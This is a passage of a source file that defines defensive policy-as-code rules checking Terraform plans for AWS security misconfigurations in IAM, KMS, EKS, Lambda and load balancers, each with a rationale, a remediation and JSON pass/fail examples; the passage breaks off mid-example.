      path: "rules/security/terraform/aws/eks_secrets_not_encrypted.plumb",
      text: #"""
      rule eks_secrets_not_encrypted {
        title "EKS clusters encrypt Kubernetes secrets with KMS"
        severity medium
        category security
        tags [terraform, aws, eks, kubernetes, encryption, kms]
        rationale """
          Without envelope encryption, Kubernetes Secrets (database passwords, API keys, service account
          tokens) are stored in etcd protected only by EBS-level encryption; anyone who reads etcd or its
          backups reads them. With an `encryption_config` for `secrets`, each secret is encrypted with a
          KMS key whose use is controlled and logged.
        """
        remediation """
          Add `encryption_config { resources = ["secrets"] provider { key_arn = aws_kms_key.eks.arn } }`
          to the cluster (EKS 1.28+ also encrypts by default with an AWS-owned key, which cannot be
          audited or revoked).
        """

        for c in terraform.resource("aws_eks_cluster")
        when not is_null(c.after)
        require any(e in c.after.encryption_config, "secrets" in e.resources)
          else "'${c.address}' has no encryption_config for secrets" at c.address

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after_unknown": {"encryption_config": [{"provider": [{"key_arn": true}]}]},
               "after": {"encryption_config": [{"provider": [{}], "resources": ["secrets"]}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": ↓"aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encryption_config": []},
               "after": {"encryption_config": []}}}]}
        """ expect "'aws_eks_cluster.main' has no encryption_config for secrets"
        example indeterminate "resources known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after_unknown": {"encryption_config": [{"resources": true}]},
               "after": {"encryption_config": [{"provider": [{"key_arn": "arn:aws:kms:eu-west-1:111122223333:key/1"}]}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/iam_policy_admin_wildcard.plumb",
      text: #"""
      rule iam_policy_admin_wildcard {
        title "IAM policies do not allow every action on every resource"
        severity critical
        category security
        tags [terraform, aws, iam, least-privilege]
        rationale """
          A statement with `"Effect": "Allow"`, `"Action": "*"` and `"Resource": "*"` is full
          administrator access: whoever holds it (a role assumed by a CI job, a Lambda, a leaked user
          key) can read every secret, create users and keys for persistence, and delete the account's
          infrastructure and backups.
        """
        remediation """
          List the actions and resources the principal needs (IAM Access Analyzer can generate a policy
          from CloudTrail activity). For break-glass administrators use the AWS-managed
          AdministratorAccess policy on a role that requires MFA, managed outside this code.
        """
        # One statement object (nested at most two levels deep) with, at its own level, Allow and a "*"
        # action and resource (alone or in a list). The policy is a JSON string: this is a regular
        # expression over its text; deeper statements are not recognised (no finding).
        param admin_statement: pattern = """\{(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Effect"\s*:\s*"Allow")(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Action"\s*:\s*(?:"\*"|\[[^\]]*"\*"[^\]]*\]))(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Resource"\s*:\s*(?:"\*"|\[[^\]]*"\*"[^\]]*\]))(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*\}"""

        for p in terraform.resource("aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy")
        when not is_null(p.after)
        require not (p.after.policy matches param.admin_statement)
          else "'${p.address}' allows Action '*' on Resource '*' (full administrator access)" at p.after.policy

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_policy.deploy", "mode": "managed", "type": "aws_iam_policy", "name": "deploy",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "deploy", "policy": "{\"Statement\":[{\"Action\":[\"s3:*\",\"ec2:Describe*\"],\"Effect\":\"Allow\",\"Resource\":\"*\"},{\"Action\":\"*\",\"Effect\":\"Deny\",\"Resource\":\"*\",\"Condition\":{\"Bool\":{\"aws:MultiFactorAuthPresent\":\"false\"}}}],\"Version\":\"2012-10-17\"}"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_role_policy.ci", "mode": "managed", "type": "aws_iam_role_policy", "name": "ci",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"role": true},
               "after": {"name": "ci", "policy": ↓"{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Action\": [\n        \"*\"\n      ],\n      \"Effect\": \"Allow\",\n      \"Resource\": \"*\"\n    }\n  ]\n}\n"}}}]}
        """ expect "'aws_iam_role_policy.ci' allows Action '*' on Resource '*'"
        example indeterminate "policy rendered at apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_policy.p", "mode": "managed", "type": "aws_iam_policy", "name": "p",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"name": "p"}, "after_unknown": {"policy": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/iam_policy_attached_to_user.plumb",
      text: #"""
      rule iam_policy_attached_to_user {
        title "IAM policies are attached to groups or roles, not to users"
        severity medium
        category security
        tags [terraform, aws, iam]
        rationale """
          Permissions attached directly to IAM users are invisible when reviewing groups and roles,
          survive a person's change of team, and multiply with every user: access reviews miss them and
          offboarding leaves them behind. Long-lived user credentials with their own policies are also
          the usual source of leaked-key incidents.
        """
        remediation """
          Attach the policy to a group (`aws_iam_group_policy_attachment`) and add the user to the group,
          or better, to a role that people and workloads assume (IAM Identity Center for people).
        """

        for a in terraform.resource("aws_iam_user_policy", "aws_iam_user_policy_attachment", "aws_iam_policy_attachment")
        when not is_null(a.after)
        # aws_iam_user_policy and aws_iam_user_policy_attachment always target a user (even one whose name
        # is known only after apply); aws_iam_policy_attachment may list users (blank names are ignored).
        require type(a) == "aws_iam_policy_attachment"
          else "'${a.address}' attaches a policy directly to user '${a.after.user}'" at a.after.user
        let users = filter(u in default(a.after.users, []), not is_empty(u))
        require count(users) == 0
          else "'${a.address}' attaches a policy directly to user '${join(users, "', '")}'" at first(users)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true},
               "after": {"name": "ops", "groups": ["ops"], "roles": null, "users": [""]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_user_policy.alice", "mode": "managed", "type": "aws_iam_user_policy", "name": "alice",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "excess", "policy": "{}", "user": ↓"alice"}}},
            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true},
               "after": {"name": "ops", "groups": null, "roles": null, "users": [↓"bob", "carol"]}}}]}
        """ expect "'aws_iam_user_policy.alice' attaches a policy directly to user 'alice'"
            expect "'aws_iam_policy_attachment.ops' attaches a policy directly to user 'bob', 'carol'"
        example indeterminate "user created in the same plan" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_iam_policy_attachment.ops", "mode": "managed", "type": "aws_iam_policy_attachment", "name": "ops",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"policy_arn": true, "users": [true]},
               "after": {"name": "ops", "groups": null, "roles": null, "users": [null]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/iam_policy_document_admin_wildcard.plumb",
      text: #"""
      rule iam_policy_document_admin_wildcard {
        title "IAM policy documents do not allow every action on every resource"
        severity critical
        category security
        tags [terraform, aws, iam, least-privilege]
        rationale """
          A `data "aws_iam_policy_document"` statement that allows `actions = ["*"]` on
          `resources = ["*"]` renders a full administrator policy, whatever resource it is attached to
          later: whoever holds it can read every secret, create users and keys for persistence, and
          delete the account's infrastructure and backups.
        """
        remediation """
          List the actions and resources the principal needs (IAM Access Analyzer can generate them
          from CloudTrail activity), or restrict the statement with conditions.
        """

        for d in terraform.data("aws_iam_policy_document")
        let admin = filter(s in d.values.statement,
          default(s.effect, "Allow") == "Allow" and "*" in s.actions and "*" in s.resources)
        require count(admin) == 0
          else "'${d.address}' allows actions '*' on resources '*' (full administrator access)" at first(admin)

        example pass """
          {"format_version": "1.2", "resource_changes": [],
           "prior_state": {"format_version": "1.0", "values": {"root_module": {"resources": [
            {"address": "data.aws_iam_policy_document.read", "mode": "data", "type": "aws_iam_policy_document", "name": "read",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "values": {"json": "{}", "statement": [
               {"actions": ["s3:GetObject"], "effect": "Allow", "resources": ["*"], "condition": [], "principals": []},
               {"actions": ["*"], "effect": "Deny", "resources": ["*"], "condition": [], "principals": []}]}}]}}}}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [],
           "prior_state": {"format_version": "1.0", "values": {"root_module": {"resources": [
            {"address": "data.aws_iam_policy_document.admin", "mode": "data", "type": "aws_iam_policy_document", "name": "admin",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "values": {"json": "{}", "statement": [
               ↓{"actions": ["*"], "effect": "Allow", "resources": ["*"], "condition": [], "principals": []}]}}]}}}}
        """ expect "'data.aws_iam_policy_document.admin' allows actions '*' on resources '*'"
        example indeterminate "document read during apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "data.aws_iam_policy_document.p", "mode": "data", "type": "aws_iam_policy_document", "name": "p",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["read"], "before": null,
               "after": {"statement": [{"actions": ["*"], "effect": "Allow"}]},
               "after_unknown": {"json": true, "statement": [{"resources": true}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/kms_key_deletion_window_short.plumb",
      text: #"""
      rule kms_key_deletion_window_short {
        title "KMS keys keep a deletion window long enough to notice a mistake"
        severity low
        category security
        tags [terraform, aws, kms]
        rationale """
          Deleting a KMS key makes every ciphertext under it unrecoverable: backups, snapshots, S3
          objects, secrets. The waiting period between `ScheduleKeyDeletion` and the deletion is the
          only chance to cancel an accidental or malicious deletion (an attacker with kms:* can destroy
          data this way). Seven days, the minimum, is shorter than many alerting and holiday cycles.
        """
        remediation """
          Set `deletion_window_in_days` to at least the `min_days` parameter (14 by default), or leave it
          unset for AWS's default of 30 days.
        """
        param min_days: int = 14

        for k in terraform.resource("aws_kms_key")
        when not is_null(k.after)
        require is_null(k.after.deletion_window_in_days) or not exists(k.after.deletion_window_in_days) or k.after.deletion_window_in_days >= param.min_days
          else "'${k.address}' has deletion_window_in_days = ${k.after.deletion_window_in_days}, less than ${param.min_days}" at k.after.deletion_window_in_days

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": 30}}},
            {"address": "aws_kms_key.b", "mode": "managed", "type": "aws_kms_key", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": null}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {}, "after": {"deletion_window_in_days": ↓7}}}]}
        """ expect "'aws_kms_key.a' has deletion_window_in_days = 7, less than 14"
        example indeterminate "window from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.a", "mode": "managed", "type": "aws_kms_key", "name": "a",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"deletion_window_in_days": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/kms_key_rotation_disabled.plumb",
      text: #"""
      rule kms_key_rotation_disabled {
        title "KMS keys rotate their key material"
        severity medium
        category security
        tags [terraform, aws, kms, encryption]
        rationale """
          Without automatic rotation a customer managed key uses the same key material for as long as it
          exists, so every ciphertext ever produced depends on one secret; compliance frameworks (CIS,
          PCI DSS) require yearly rotation. Rotation is transparent: old ciphertexts still decrypt.
        """
        remediation """
          Set `enable_key_rotation = true` (and `rotation_period_in_days` if yearly is not enough).
          Asymmetric and HMAC keys cannot rotate automatically and are not judged.
        """

        for k in terraform.resource("aws_kms_key")
        when not is_null(k.after)
        # Only symmetric encryption keys support automatic rotation. Older providers compute key_usage
        # and the key spec when the configuration does not set them: the defaults then apply.
        let configured = exists(k.provider.key)
        when (configured and not exists(k.config.customer_master_key_spec) and is_unknown(k.after.customer_master_key_spec))
          or default(k.after.customer_master_key_spec, "SYMMETRIC_DEFAULT") == "SYMMETRIC_DEFAULT"
        when (configured and not exists(k.config.key_usage) and is_unknown(k.after.key_usage))
          or default(k.after.key_usage, "ENCRYPT_DECRYPT") == "ENCRYPT_DECRYPT"
        require k.after.enable_key_rotation == true
          else "'${k.address}' has enable_key_rotation = ${default(k.after.enable_key_rotation, false)}" at k.after.enable_key_rotation
          fix { set k.after.enable_key_rotation = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT", "enable_key_rotation": true}}},
            {"address": "aws_kms_key.signing", "mode": "managed", "type": "aws_kms_key", "name": "signing",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"customer_master_key_spec": "RSA_2048", "key_usage": "SIGN_VERIFY", "enable_key_rotation": false}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT", "enable_key_rotation": ↓false}}}]}
        """ expect "'aws_kms_key.data' has enable_key_rotation = false"
        example fail "key usage computed by an older provider" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "key_usage": true},
               "after": {"description": "data", "enable_key_rotation": ↓false}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data", "provider_config_key": "aws",
             "expressions": {"description": {"constant_value": "data"}}}]}}}
        """ expect "'aws_kms_key.data' has enable_key_rotation = false"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_kms_key.data", "mode": "managed", "type": "aws_kms_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"enable_key_rotation": true},
               "after": {"customer_master_key_spec": "SYMMETRIC_DEFAULT", "key_usage": "ENCRYPT_DECRYPT"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/lambda_function_url_unauthenticated.plumb",
      text: #"""
      rule lambda_function_url_unauthenticated {
        title "Lambda function URLs require IAM authentication"
        severity high
        category security
        tags [terraform, aws, lambda, iam]
        rationale """
          A function URL with `authorization_type = "NONE"` is a public HTTPS endpoint: anyone on the
          internet can invoke the function, run up its cost and reach whatever its execution role can
          reach, unless the function's own code authenticates every request.
        """
        remediation """
          Set `authorization_type = "AWS_IAM"` and grant `lambda:InvokeFunctionUrl` to the callers, or
          put the function behind API Gateway or CloudFront with an authorizer. If the endpoint must be
          public (a webhook), verify signatures in the function and waive this finding with a reason.
        """

        for u in terraform.resource("aws_lambda_function_url")
        when not is_null(u.after)
        require u.after.authorization_type != "NONE"
          else "'${u.address}' lets anyone invoke the function (authorization_type NONE)" at u.after.authorization_type

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"function_url": true},
               "after": {"function_name": "api", "authorization_type": "AWS_IAM"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"function_url": true},
               "after": {"function_name": "api", "authorization_type": ↓"NONE"}}}]}
        """ expect "'aws_lambda_function_url.api' lets anyone invoke the function (authorization_type NONE)"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_function_url.api", "mode": "managed", "type": "aws_lambda_function_url", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"authorization_type": true}, "after": {"function_name": "api"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/lambda_permission_public.plumb",
      text: #"""
      rule lambda_permission_public {
        title "Lambda permissions for any principal name the source that may invoke"
        severity high
        category security
        tags [terraform, aws, lambda, public-access, iam]
        rationale """
          An `aws_lambda_permission` with `principal = "*"` adds a statement with `Principal: "*"` to the
          function's resource policy: any AWS account can invoke the function (run up its cost, reach
          whatever its execution role can reach) unless the permission binds the caller with
          `source_arn` (the bucket, topic or rule that may invoke it, in a named account),
          `source_account` or `principal_org_id`. A service principal (`s3.amazonaws.com`) without
          `source_arn` is the confused-deputy variant: any account's bucket or topic can invoke it.
        """
        remediation """
          Name the principal that invokes the function (an account, role or service principal) and set
          `source_arn` (and `source_account` for S3) to the resource that may invoke it, or
          `principal_org_id` for callers of one organization. For a public HTTPS endpoint use a function
          URL or API Gateway with authentication instead.
        """

        for p in terraform.resource("aws_lambda_permission")
        when not is_null(p.after)
        let principal = p.after.principal
        # A wildcard principal (`*`, or an account wildcard written as an ARN).
        let wildcard = principal == "*" or principal == "arn:aws:iam::*:root"
        # A source set from a value known only after apply is a resource's ARN or an account id: it binds.
        let bound = any(x in [p.after.source_arn, p.after.source_account, p.after.principal_org_id],
          is_unknown(x) or (not is_empty(x) and not (x matches "^[*?]*$") and not (x matches "^arn:[^:]*:[^:]*:[^:]*:[*?]")))
        require is_unknown(principal) or not wildcard or bound
          else "'${p.address}' lets any AWS account invoke the function (principal '*' without source_arn, source_account or principal_org_id)" at principal
        require known(principal) or bound or not wildcard
          else "cannot tell whether '${p.address}' lets anyone invoke the function: its principal is unknown until apply" at p.address

        example pass "named principals, and a wildcard bound by source_arn, source_account or principal_org_id" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_permission.sns", "mode": "managed", "type": "aws_lambda_permission", "name": "sns",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"source_arn": true},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": "sns.amazonaws.com"}}},
            {"address": "aws_lambda_permission.account", "mode": "managed", "type": "aws_lambda_permission", "name": "account",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": "*", "source_account": "111122223333"}}},
            {"address": "aws_lambda_permission.org", "mode": "managed", "type": "aws_lambda_permission", "name": "org",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": "*", "principal_org_id": "o-a1b2c3d4e5"}}},
            {"address": "aws_lambda_permission.rule", "mode": "managed", "type": "aws_lambda_permission", "name": "rule",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"source_arn": true},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": "*"}}}]}
        """
        example fail "wildcard principal, alone, with an empty source or with a wildcard account" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_permission.open", "mode": "managed", "type": "aws_lambda_permission", "name": "open",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": ↓"*", "source_arn": null}}},
            {"address": "aws_lambda_permission.any_account", "mode": "managed", "type": "aws_lambda_permission", "name": "any_account",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api", "principal": ↓"*",
                         "source_arn": "arn:aws:events:eu-west-1:*:rule/nightly", "source_account": ""}}}]}
        """ expect "'aws_lambda_permission.open' lets any AWS account invoke the function"
            expect "'aws_lambda_permission.any_account' lets any AWS account invoke the function"
        example indeterminate "principal known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lambda_permission.p", "mode": "managed", "type": "aws_lambda_permission", "name": "p",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"principal": true},
               "after": {"action": "lambda:InvokeFunction", "function_name": "api"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/lb_invalid_headers_not_dropped.plumb",
      text: #"""
      rule lb_invalid_headers_not_dropped {
        title "Application load balancers drop invalid HTTP headers"
        severity medium
        category security
        tags [terraform, aws, elb]
        rationale """
          Headers whose names are not valid HTTP tokens are forwarded to the targets unless the ALB drops
          them. Back ends and proxies that parse them differently from the load balancer are open to
          request smuggling and header-injection attacks (for example a `Transfer_Encoding` header
          read as `Transfer-Encoding`).
        """
        remediation "Set `drop_invalid_header_fields = true` on the application load balancer."

        for lb in terraform.resource("aws_lb", "aws_alb")
        when not is_null(lb.after)
        when default(lb.after.load_balancer_type, "application") == "application"
        require lb.after.drop_invalid_header_fields == true
          else "'${lb.address}' forwards invalid HTTP headers (drop_invalid_header_fields = ${default(lb.after.drop_invalid_header_fields, false)})" at lb.after.drop_invalid_header_fields

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb.web", "mode": "managed", "type": "aws_lb", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"load_balancer_type": "application", "drop_invalid_header_fields": true}}},
            {"address": "aws_lb.nlb", "mode": "managed", "type": "aws_lb", "name": "nlb",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"load_balancer_type": "network", "drop_invalid_header_fields": false}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_alb.web", "mode": "managed", "type": "aws_alb", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"load_balancer_type": "application", "drop_invalid_header_fields": ↓false}}}]}
        """ expect "'aws_alb.web' forwards invalid HTTP headers (drop_invalid_header_fields = false)"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb.web", "mode": "managed", "type": "aws_lb", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"drop_invalid_header_fields": true},
               "after": {"load_balancer_type": "application"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/lb_listener_outdated_tls_policy.plumb",
      text: #"""
      rule lb_listener_outdated_tls_policy {
        title "Load balancer listeners do not accept TLS 1.0 or 1.1"
        severity high
        category security
        tags [terraform, aws, elb, tls]
        rationale """
          TLS 1.0 and 1.1 are deprecated (RFC 8996): they rely on SHA-1 and CBC constructions with known
          attacks (BEAST, POODLE variants, Lucky13), and PCI DSS forbids them. A security policy that
          still offers them lets an active attacker or an old client downgrade the connection.
          `ELBSecurityPolicy-2016-08`, long the default, is such a policy.
        """
        remediation """
          Set `ssl_policy = "ELBSecurityPolicy-TLS13-1-2-2021-06"` (TLS 1.3 and 1.2), or
          `ELBSecurityPolicy-TLS13-1-2-Res-2021-06` for the strictest cipher suites. The parameter
          `weak_policy_prefixes` lists the policies considered outdated.
        """
        param weak_policy_prefixes: list<string> = [
          "ELBSecurityPolicy-2015-05", "ELBSecurityPolicy-2016-08", "ELBSecurityPolicy-TLS-1-0-",
          "ELBSecurityPolicy-TLS-1-1-", "ELBSecurityPolicy-FS-2018-06", "ELBSecurityPolicy-FS-1-1-",
          "ELBSecurityPolicy-TLS13-1-0-", "ELBSecurityPolicy-TLS13-1-1-"]

        for l in terraform.resource("aws_lb_listener", "aws_alb_listener")
        when not is_null(l.after)
        when l.after.protocol == "HTTPS" or l.after.protocol == "TLS"
        require none(p in param.weak_policy_prefixes, starts_with(l.after.ssl_policy, p))
          else "'${l.address}' uses ssl_policy '${l.after.ssl_policy}', which accepts TLS 1.0 or 1.1" at l.after.ssl_policy

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
               "after": {"port": 443, "protocol": "HTTPS", "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
               "after": {"port": 443, "protocol": "HTTPS", "ssl_policy": ↓"ELBSecurityPolicy-2016-08"}}}]}
        """ expect "'aws_lb_listener.https' uses ssl_policy 'ELBSecurityPolicy-2016-08', which accepts TLS 1.0 or 1.1"
        example indeterminate "policy chosen by AWS at apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb_listener.https", "mode": "managed", "type": "aws_lb_listener", "name": "https",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"ssl_policy": true},
               "after": {"port": 443, "protocol": "TLS"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/lb_listener_plain_http.plumb",
      text: ##"""
      rule lb_listener_plain_http {
        title "Load balancer listeners do not serve plain HTTP"
        severity high
        category security
        tags [terraform, aws, elb, tls]
        rationale """
          A listener with protocol HTTP that forwards to targets (or authenticates users) carries
          session cookies, tokens, passwords and personal data in clear text: anyone on the path (public
          Wi-Fi, a compromised router) can read and change them. Plain HTTP is only acceptable to redirect
          to HTTPS.
        """
        remediation """
          Serve the application on an HTTPS listener (`protocol = "HTTPS"`, a `certificate_arn` and a
          modern `ssl_policy`) and make the HTTP listener's default action a redirect:
          `default_action { type = "redirect" redirect { protocol = "HTTPS" port = "443" status_code = "HTTP_301" } }`.
        """

        for l in terraform.resource("aws_lb_listener", "aws_alb_listener")
        when not is_null(l.after)
        when l.after.protocol == "HTTP"
        let serving = filter(a in l.after.default_action,
          not ((a.type == "redirect" and first(a.redirect).protocol == "HTTPS") or a.type == "fixed-response"))
        require count(serving) == 0
          else "'${l.address}' serves plain HTTP on port ${l.after.port} (default action '${first(serving).type}' instead of a redirect to HTTPS)" at first(serving).type

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb_listener.http", "mode": "managed", "type": "aws_lb_listener", "name": "http",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
               "after": {"port": 80, "protocol": "HTTP", "default_action": [
                 {"type": "redirect", "target_group_arn": null, "fixed_response": [], "redirect": [{"host": "#{host}", "path": "/#{path}", "port": "443", "protocol": "HTTPS", "query": "#{query}", "status_code": "HTTP_301"}]}]}}},
            {"address": "aws_lb_listener.nlb", "mode": "managed", "type": "aws_lb_listener", "name": "nlb",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true},
               "after": {"port": 5432, "protocol": "TCP", "default_action": [{"type": "forward", "redirect": []}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
